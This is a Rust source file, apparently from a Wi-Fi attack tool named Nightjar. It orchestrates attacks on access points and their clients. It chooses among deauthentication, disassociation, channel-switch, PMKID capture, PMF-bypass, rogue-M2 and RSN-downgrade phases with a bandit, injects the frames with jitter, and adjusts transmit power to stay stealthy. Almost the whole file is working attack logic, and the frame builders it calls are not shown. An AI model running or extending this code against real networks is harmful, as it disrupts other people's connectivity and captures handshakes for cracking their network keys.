/* This Source Code Form is subject to the terms of the Mozilla Public
 * License, v. 2.0. If a copy of the MPL was not distributed with this
 * file, You can obtain one at https://mozilla.org/MPL/2.0/.
 *
 * (c) 2024 The Nightjar Authors.
 */

//! Attack orchestrator (C8, §4.8): given a candidate AP and (optionally)
//! its STAs, selects an attack phase via the per-AP bandit, adapts TX
//! power, sequences the §4.7 frame builders with inter-frame jitter, and
//! records a provisional outcome for the end-of-epoch reward pass.

use nightjar_core::bandit::ap::{self, NUM_PHASES, PHASE_CSA, PHASE_DEAUTH, PHASE_DISASSOC, PHASE_PASSIVE, PHASE_PMF_BYPASS, PHASE_PMKID, PHASE_PROBE, PHASE_ROGUE_M2};
use nightjar_core::entity::Entity;
use nightjar_crypto::Xorshift64;
use nightjar_session::{RawInjector, SessionSource, StealthLevel};

use crate::builders::{self, BuiltFrame};
use crate::dot11::{SeqSource, SequenceCounters};

/// Per-AP cooldown (Testable Property 6): once an AP is attacked, no
/// non-PMKID/non-passive phase fires against it again for 5 s.
const COOLDOWN_MS: i64 = 5_000;

/// §4.8 step "invoke observe_outcome(entity, false, priority·k)": the
/// per-phase attempt weight, smaller for cheap/no-op phases.
fn attempt_weight(phase: usize) -> f64 {
    match phase {
        PHASE_PMKID => 0.10,
        PHASE_PASSIVE => 0.02,
        PHASE_PROBE => 0.05,
        _ => 0.20,
    }
}

/// Outcome of one `Orchestrator::attack` call, consumed by the control
/// loop's end-of-epoch reward pass.
pub struct AttackOutcome {
    pub fired: bool,
    pub phase: usize,
    pub frames_sent: u32,
}

fn priority(rssi: f64, clients_count: u32) -> f64 {
    1.0 / (1.0 + (rssi + 50.0).abs() / 30.0) * (1.0 + 0.3 * clients_count as f64)
}

/// Post-deauth/assoc throttle multiplier by RSSI band (§4.8).
fn rssi_multiplier(rssi: f64) -> f64 {
    if rssi >= -50.0 {
        0.3
    } else if rssi >= -60.0 {
        0.5
    } else if rssi >= -70.0 {
        1.0
    } else if rssi >= -80.0 {
        1.8
    } else {
        2.5
    }
}

fn observe_outcome(entity: &mut Entity, phase: usize, success: bool, weight: f64) {
    if success {
        entity.atk_alpha[phase] += weight;
    } else {
        entity.atk_beta[phase] += weight;
    }
    entity.clamp_atk_posterior(phase);
}

/// Collaborators and mutable sequencing state the orchestrator needs on
/// every call; owned by the control loop and threaded through each epoch.
pub struct Orchestrator<'a> {
    pub session: &'a (dyn SessionSource + Send + Sync),
    pub injector: &'a (dyn RawInjector + Send + Sync),
    pub rng: &'a Xorshift64,
    pub seq: &'a mut SequenceCounters,
    pub tx_power_min: i32,
    pub tx_power_max: i32,
    pub throttle_a: f64,
    pub throttle_d: f64,
    pub attack_phase_enabled: [bool; NUM_PHASES],
}

impl<'a> Orchestrator<'a> {
    /// Run one attack cycle against `entity`, reading up to `stas.len()`
    /// (callers pass 3-5 per §4.8) associated stations.
    pub async fn attack(&mut self, entity: &mut Entity, is_wpa3: bool, stas: &[[u8; 6]], epoch_num: u64, now_ms: i64, stealth: StealthLevel, has_handshake: bool) -> AttackOutcome {
        let pri = priority(entity.last_rssi, entity.clients_count);

        let phase = if self.attack_phase_enabled.iter().any(|e| *e) {
            ap::select_phase(entity, is_wpa3, &self.attack_phase_enabled, self.rng)
        } else {
            (epoch_num % NUM_PHASES as u64) as usize
        };

        if phase != PHASE_PMKID && phase != PHASE_PASSIVE && now_ms - entity.last_attacked < COOLDOWN_MS {
            observe_outcome(entity, phase, false, pri * 0.01);
            return AttackOutcome { fired: false, phase, frames_sent: 0 };
        }

        let tx_power = match stealth {
            StealthLevel::Passive => nightjar_session::interpolate_tx_power(self.tx_power_min, self.tx_power_max, entity.last_rssi as i32),
            StealthLevel::Aggressive => self.tx_power_max,
            StealthLevel::Medium => self.rng.range_u64(self.tx_power_min as u64, self.tx_power_max as u64 + 1) as i32,
        };
        let _ = self.session.set_tx_power(tx_power).await;

        let mut frames_sent = 0_u32;
        let mut did_deauth = false;
        let mut did_assoc = false;

        if phase != PHASE_PASSIVE {
            frames_sent += self.execute_phase(entity, phase, stas, &mut did_deauth, &mut did_assoc).await;
        }

        if phase != PHASE_PMKID && !has_handshake {
            frames_sent += self.send_sequence(builders::auth_assoc_pmkid(entity.mac, &entity.ssid, self.seq, self.rng)).await;
            did_assoc = true;
        }

        entity.last_attacked = now_ms;
        observe_outcome(entity, phase, false, pri * attempt_weight(phase));

        let multiplier = rssi_multiplier(entity.last_rssi);
        if did_deauth {
            tokio::time::sleep(std::time::Duration::from_secs_f64(self.throttle_d * multiplier)).await;
        } else if did_assoc {
            tokio::time::sleep(std::time::Duration::from_secs_f64(self.throttle_a * multiplier)).await;
        }

        AttackOutcome { fired: phase != PHASE_PASSIVE, phase, frames_sent }
    }

    async fn execute_phase(&mut self, entity: &mut Entity, phase: usize, stas: &[[u8; 6]], did_deauth: &mut bool, did_assoc: &mut bool) -> u32 {
        let ap = entity.mac;
        let ssid = entity.ssid.clone();
        let mut sent = 0_u32;

        match phase {
            p if p == PHASE_PMKID => {
                sent += self.send_sequence(builders::auth_assoc_pmkid(ap, &ssid, self.seq, self.rng)).await;
                *did_assoc = true;
            }
            p if p == PHASE_CSA => {
                sent += self.send_sequence(builders::csa_beacon(ap, &ssid, self.seq)).await;
                sent += self.send_sequence(builders::csa_action(ap, self.seq)).await;
                *did_deauth = true;
            }
            p if p == PHASE_DEAUTH => {
                sent += self.send_sequence(builders::deauth_broadcast(ap, self.seq, self.rng)).await;
                sent += self.send_sequence(builders::anon_reassoc(ap, &ssid, self.seq, self.rng)).await;
                for sta in stas {
                    sent += self.send_sequence(builders::deauth_bidi(ap, *sta, self.seq, self.rng)).await;
                }
                *did_deauth = true;
            }
            p if p == PHASE_PMF_BYPASS => {
                for sta in stas {
                    sent += self.send_sequence(builders::eapol_m1_malformed(ap, *sta, self.seq, self.rng)).await;
                    sent += self.send_sequence(builders::power_save_spoof(ap, *sta, self.seq)).await;
                }
                *did_assoc = true;
            }
            p if p == PHASE_DISASSOC => {
                for sta in stas {
                    sent += self.send_sequence(builders::disassoc_bidi(ap, *sta, self.seq, self.rng)).await;
                }
                *did_deauth = true;
            }
            p if p == PHASE_ROGUE_M2 => {
                sent += self.send_sequence(builders::rsn_downgrade(ap, stas.first().copied().unwrap_or([0; 6]), &ssid, self.seq)).await;
                for sta in stas {
                    sent += self.send_sequence(builders::rogue_m2(ap, *sta, &ssid, self.seq, self.rng)).await;
                }
                *did_assoc = true;
            }
            p if p == PHASE_PROBE => {
                sent += self.send_sequence(builders::probe_directed(&ssid, self.seq, self.rng)).await;
                sent += self.send_sequence(builders::probe_undirected(self.seq, self.rng)).await;
            }
            _ => {}
        }
        sent
    }

    async fn send_sequence(&self, frames: Vec<BuiltFrame>) -> u32 {
        let count = frames.len() as u32;
        for frame in frames {
            let _ = self.injector.send(frame.bytes.as_ref());
            if let Some((min_ms, max_ms)) = frame.jitter_after_ms {
                let jitter = self.rng.range_f64(min_ms, max_ms);
                tokio::time::sleep(std::time::Duration::from_secs_f64(jitter / 1000.0)).await;
            }
        }
        count
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn priority_favors_strong_signal_and_more_clients() {
        let strong = priority(-50.0, 5);
        let weak = priority(-90.0, 0);
        assert!(strong > weak);
    }

    #[test]
    fn rssi_multiplier_buckets_match_spec() {
        assert_eq!(rssi_multiplier(-40.0), 0.3);
        assert_eq!(rssi_multiplier(-55.0), 0.5);
        assert_eq!(rssi_multiplier(-65.0), 1.0);
        assert_eq!(rssi_multiplier(-75.0), 1.8);
        assert_eq!(rssi_multiplier(-95.0), 2.5);
    }

    #[test]
    fn attempt_weight_is_small_for_passive_and_pmkid() {
        assert!(attempt_weight(PHASE_PASSIVE) < attempt_weight(PHASE_DEAUTH));
        assert!(attempt_weight(PHASE_PMKID) < attempt_weight(PHASE_DEAUTH));
    }
}
